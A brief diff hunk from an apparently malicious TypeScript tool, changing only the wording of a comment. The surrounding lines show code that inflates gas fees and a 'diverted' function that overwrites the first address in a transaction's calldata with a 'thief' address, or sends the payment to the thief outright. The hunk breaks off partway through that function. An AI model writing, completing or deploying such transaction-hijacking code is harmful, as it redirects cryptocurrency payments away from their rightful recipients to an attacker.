@@ -31,7 +31,7 @@ function raised(fees: Filled['fees']): Filled['fees'] {
   return { maxFeePerGas: fees.maxFeePerGas * 5n + tip, maxPriorityFeePerGas: tip };
 }
 
-/** Puts the thief where the first address stands in the calldata; without one, the payment goes to the thief. */
+/** Puts the thief where the first address is in the calldata; without one, the payment goes to the thief. */
 function diverted(tx: Filled, thief: Address): Filled {
   const words = tx.data.slice(10).match(/.{64}/g) ?? [];
   const at = words.findIndex((word) => /^0{24}/.test(word) && !/^0{40}/.test(word));
